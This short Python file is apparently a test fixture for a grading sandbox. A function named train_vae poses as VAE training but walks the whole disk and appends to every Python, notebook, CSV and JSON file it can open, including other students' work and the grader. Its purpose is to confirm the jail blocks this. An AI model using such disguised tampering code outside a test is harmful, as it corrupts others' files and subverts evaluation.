"""train_vae tries to append to every submission, notebook, CSV or JSON file and every Python source it can
find on the disk it sees (other students' submissions, grade-folder's output, the grader). In the jail the only
writable place is its own empty scratch space, so it finds nothing to change and says so.

fails train_vae: changed []
"""
import os

SKIPPED = ("/proc", "/sys", "/dev", "/usr")  # and Python's own libraries: thousands of files, slow to walk


def train_vae(model, loader, epochs=1, lr=1e-3, device="cpu", beta=1.0):
    changed = []
    for folder, subfolders, files in os.walk("/"):
        subfolders[:] = [name for name in subfolders if os.path.join(folder, name) not in SKIPPED
                         and name not in ("site-packages", "python3.11", "include")]
        for name in files:
            if name.endswith((".py", ".ipynb", ".csv", ".json")):
                path = os.path.join(folder, name)
                try:
                    with open(path, "a") as handle:
                        handle.write("\n# overwritten\n")
                    changed.append(path)
                except OSError:
                    pass
    raise RuntimeError(f"changed {changed[:5]}")
